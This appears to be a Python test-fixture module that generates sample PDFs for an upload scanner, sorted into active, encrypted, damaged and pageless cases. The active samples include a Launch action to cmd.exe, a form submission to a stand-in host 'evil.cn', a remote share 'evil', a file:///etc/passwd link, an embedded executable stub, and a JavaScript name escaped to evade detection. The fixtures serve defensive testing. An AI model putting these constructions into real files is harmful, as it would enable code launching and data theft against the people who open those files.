"""PDF files of the corpus: active, locked, broken."""

from collections.abc import Callable, Iterator
from io import BytesIO

import pikepdf

from tests.uploads.making import action, link, pdf
from tests.uploads.sample import Sample

PROGRAM = b"MZ" + b"\0" * 200
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


def _attach(made: pikepdf.Pdf) -> None:
    made.attachments["a.exe"] = PROGRAM


def _escaped_name() -> bytes:
    """A script whose name is written with codes, which every reader turns back."""
    opening = action("/JavaScript", JS="app.alert(1)")

    def alter(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = opening

    whole = pdf(alter, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    place = whole.index(b"/JavaScript")
    table = whole.index(b"xref")
    # The blanks make up for the longer name, so that the table of places stays true.
    grown = whole[:place] + b"/J#61vaScript" + whole[place + 11 : table]
    return grown.replace(b" >>", b">>", 2) + whole[table:]


def _false_table() -> bytes:
    return pdf().replace(b"startxref\n", b"startxref\n9")


def _no_pages() -> bytes:
    out = BytesIO()
    pikepdf.new().save(out)
    return out.getvalue()


SCRIPT = action("/JavaScript", JS="app.alert(1)")
ACTIVE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "opens with a script": lambda it: it.Root.__setattr__("OpenAction", SCRIPT),
    "scripts by name": lambda it: it.Root.__setattr__(
        "Names", Dictionary(JavaScript=Dictionary(Names=Array(["a", SCRIPT])))
    ),
    "launches": lambda it: link(it, action("/Launch", F="cmd.exe")),
    "script in a link": lambda it: link(it, SCRIPT),
    "file address": lambda it: link(it, action("/URI", URI="file:///etc/passwd")),
    "sends a form": lambda it: link(it, action("/SubmitForm", F="https://evil.cn")),
    "goes to another file": lambda it: link(it, action("/GoToR", F="\\\\evil\\share")),
    "acts on a page": lambda it: it.pages[0].obj.__setattr__("AA", Dictionary(O=SCRIPT)),
    "acts in the catalogue": lambda it: it.Root.__setattr__("AA", Dictionary(WC=SCRIPT)),
    "carries a file": _attach,
    "an XFA form": lambda it: it.Root.__setattr__(
        "AcroForm", Dictionary(XFA=it.make_stream(b"<xdp/>"), Fields=Array([]))
    ),
    "rich media": lambda it: it.pages[0].obj.__setattr__(
        "Annots", Array([Dictionary(Type=Name.Annot, Subtype=Name.RichMedia)])
    ),
    "a chain of actions": lambda it: link(it, action("/GoTo", D=Array([0, Name.Fit]), Next=SCRIPT)),
}


def active_pdfs() -> Iterator[Sample]:
    """What a PDF may do besides being read."""
    for what, alter in ACTIVE.items():
        yield Sample(f"a PDF that {what}", "a.pdf", lambda alter=alter: pdf(alter), "active")
    yield from scripted_pdfs()


def scripted_pdfs() -> Iterator[Sample]:
    """Scripts that hide, locks, and files that do not hold together."""
    hidden = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    scripted = lambda it: link(it, action("/URI", URI="javascript:alert(1)"))  # noqa: E731
    yield Sample("a script as an address", "a.pdf", lambda: pdf(scripted), "two_natures")
    yield Sample("the same, packed", "a.pdf", lambda: pdf(scripted, **hidden), "active")
    opening = ACTIVE["opens with a script"]
    yield Sample("a script in packed objects", "a.pdf", lambda: pdf(opening, **hidden), "active")
    yield Sample("a script by an escaped name", "a.pdf", _escaped_name, "active")
    locked = pikepdf.Encryption(owner="a", user="b")
    yield Sample("a locked PDF", "a.pdf", lambda: pdf(encryption=locked), "encrypted")
    owned = pikepdf.Encryption(owner="a", user="")
    yield Sample("a restricted PDF", "a.pdf", lambda: pdf(encryption=owned), "encrypted")
    yield Sample("half a PDF", "a.pdf", lambda: pdf()[:300], "damaged")
    yield Sample("a PDF without a table", "a.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "damaged")
    yield Sample("a PDF whose table lies", "a.pdf", _false_table, "damaged")
    yield Sample("a PDF without pages", "a.pdf", _no_pages, "pages")
